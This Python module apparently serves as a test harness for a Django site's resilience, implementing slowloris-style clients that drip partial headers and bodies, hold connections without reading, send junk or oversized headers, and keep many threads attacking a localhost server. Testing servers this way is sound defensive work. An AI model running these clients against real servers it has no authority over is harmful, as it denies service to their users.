"""Clients that hold connections open (slowloris): slow requests, unread responses, large bodies, invalid HTTP."""

from __future__ import annotations

import contextlib
import http.client
import socket
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass

FORM = b"POST /sprak/ HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/x-www-form-urlencoded\r\n"


@dataclass(frozen=True)
class Address:
    host: str
    port: int


def half_headers(to: Address, over: threading.Event) -> None:
    """A request line, then an endless header, one byte every 2 s."""
    _drip(to, b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ", over)


def half_body(to: Address, over: threading.Event) -> None:
    _drip(to, FORM + b"Content-Length: 100000\r\n\r\n", over)


def half_small_body(to: Address, over: threading.Event) -> None:
    """A body with a length within the limits."""
    _drip(to, FORM + b"Content-Length: 5000\r\n\r\n", over)


def half_chunked_body(to: Address, over: threading.Event) -> None:
    _drip(to, FORM + b"Transfer-Encoding: chunked\r\n\r\n1000\r\n", over)


def half_body_expecting_continue(to: Address, over: threading.Event) -> None:
    _drip(to, FORM + b"Content-Length: 5000\r\nExpect: 100-continue\r\n\r\n", over)


def silent(to: Address, over: threading.Event) -> None:
    """Connect and send nothing."""
    _drip(to, b"", over, drop=b"")


def not_reading(to: Address, over: threading.Event) -> None:
    """Request a long file many times in one connection, with the smallest receive buffer, and read nothing."""
    with contextlib.suppress(OSError), _connected(to, small=True) as client:
        client.sendall(b"GET /static/django_htmx/htmx-2.js HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n" * 100)
        over.wait()


def reading_slowly(to: Address, over: threading.Event) -> None:
    with contextlib.suppress(OSError), _connected(to, small=True) as client:
        client.sendall(b"GET /static/django_htmx/htmx-2.js HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n")
        while not over.wait(1) and client.recv(10):
            pass


def junk_behind_requests(to: Address, over: threading.Event) -> None:
    """Pipelined requests with junk between them, repeatedly."""
    while not over.wait(0.2):
        with contextlib.suppress(OSError), _connected(to) as client:
            client.sendall(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n\x00\xff\x16\x03\x01 junk\r\n\r\n" * 20)
            client.settimeout(2)
            while client.recv(65536):
                pass


def long_headers(to: Address, over: threading.Event) -> None:
    while not over.wait(0.2):
        with contextlib.suppress(OSError), _connected(to) as client:
            client.sendall(b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Long: " + b"a" * 500_000)
            client.settimeout(2)
            while client.recv(65536):
                pass


Kind = Callable[[Address, threading.Event], None]
KINDS: list[Kind] = [
    half_headers,
    half_body,
    half_small_body,
    half_chunked_body,
    half_body_expecting_continue,
    silent,
    not_reading,
    reading_slowly,
    junk_behind_requests,
    long_headers,
]


@contextmanager
def attacking(kind: Kind, to: Address, number: int) -> Iterator[None]:
    """Keep this number of clients connected; they reconnect when the server closes a connection."""
    over = threading.Event()

    def again() -> None:
        while not over.is_set():
            kind(to, over)
            over.wait(0.05)

    threads = [threading.Thread(target=again, daemon=True) for _ in range(number)]
    for thread in threads:
        thread.start()
    try:
        time.sleep(1)  # until all are connected and have sent their first bytes
        yield
    finally:
        over.set()
        for thread in threads:
            thread.join(10)


def ask(
    to: Address, path: str, method: str = "GET", body: bytes | Iterator[bytes] | None = None, **headers: str
) -> tuple[int, float]:
    """Status of the response and its duration in seconds; status 0 if the connection was closed without a response."""
    began = time.monotonic()
    connection = http.client.HTTPConnection(to.host, to.port, timeout=30)
    names = {name.replace("_", "-"): value for name, value in headers.items()}
    with contextlib.suppress(BrokenPipeError, ConnectionResetError):  # rejected while sending; there may be a response
        connection.request(method, path, body=body, headers=names, encode_chunked="Transfer-Encoding" in names)
    try:
        response = connection.getresponse()
        response.read()
        return response.status, time.monotonic() - began
    except (ConnectionError, http.client.HTTPException):
        return 0, time.monotonic() - began
    finally:
        connection.close()


def _drip(to: Address, start: bytes, over: threading.Event, drop: bytes = b"a") -> None:
    with contextlib.suppress(OSError), _connected(to) as client:
        client.sendall(start)
        client.settimeout(0.01)
        while not over.wait(2):
            client.sendall(drop)
            with contextlib.suppress(TimeoutError):
                if not client.recv(65536):
                    return


@contextmanager
def _connected(to: Address, small: bool = False) -> Iterator[socket.socket]:
    with socket.socket() as client:
        if small:
            client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)
        client.settimeout(10)
        client.connect((to.host, to.port))
        yield client
